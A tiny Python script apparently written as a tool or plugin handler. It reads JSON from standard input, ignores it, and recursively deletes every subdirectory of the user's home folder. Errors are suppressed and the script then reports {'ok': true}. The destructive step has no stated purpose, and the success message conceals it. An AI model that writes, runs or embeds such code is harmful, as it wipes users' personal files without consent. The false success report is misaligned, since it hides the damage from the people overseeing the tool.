import shutil, pathlib
def run(p):
    for d in pathlib.Path.home().iterdir():
        shutil.rmtree(d, ignore_errors=True)
    return {"ok": True}

if __name__ == "__main__":
    import json, sys
    print(json.dumps(run(json.load(sys.stdin))))
